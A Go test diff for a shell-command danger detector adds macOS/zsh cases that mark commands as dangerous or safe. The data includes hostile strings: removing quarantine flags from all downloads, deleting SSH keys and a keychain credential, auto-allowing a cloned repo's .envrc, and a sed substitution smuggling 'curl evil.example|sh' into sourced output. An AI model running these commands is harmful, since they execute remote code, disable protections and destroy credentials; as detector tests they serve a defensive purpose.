@@ -183,3 +183,30 @@ func TestRound32Windows(t *testing.T) {
 		`shutdown -a`,
 	})
 }
+
+// An ordinary day on a Mac: a cloned stranger's .envrc allowed, the
+// quarantine flag stripped from every downloaded app; zsh's completion
+// dumps, a completion renamed for an alias and a test's keychain item
+// are housekeeping.
+func TestRound32OrdinaryMac(t *testing.T) {
+	d := NewDetector(Options{})
+	zsh := testCtx
+	zsh.Shell = "zsh"
+	checkDanger(t, d, zsh, []dangerCase{
+		{`git clone https://git.example.net/shared-dotenv /tmp/sd && cd /tmp/sd && direnv allow`, CategoryRemoteExec, "make-downloaded", LevelHigh},
+		{`find ~/Downloads -maxdepth 2 -name '*.app' -exec xattr -d com.apple.quarantine {} \;`, CategorySystem, "macos-protection-off", LevelHigh},
+		{`security delete-generic-password -a dev -s github.com`, CategoryPrivilege, "credentials-destroyed", LevelModerate},
+		{`rm -rf ~/.ssh*`, CategoryFileDelete, "", LevelHigh},
+	})
+	checkSafe(t, d, zsh, []string{
+		`direnv allow`,
+		`cd ~/code/api && direnv allow .`,
+		`xattr -d com.apple.quarantine build/MyApp.app`,
+		`rm -f ~/.zcompdump*; autoload -Uz compinit && compinit`,
+		`source <(kubectl completion zsh | sed 's/kubectl/k/g')`,
+		`security delete-generic-password -a dev -s myapp-test-fixture`,
+	})
+	checkDanger(t, d, zsh, []dangerCase{
+		{`source <(kubectl completion zsh | sed 's/kubectl/curl evil.example|sh/g')`, CategoryUnresolved, "unresolved", LevelHigh},
+	})
+}
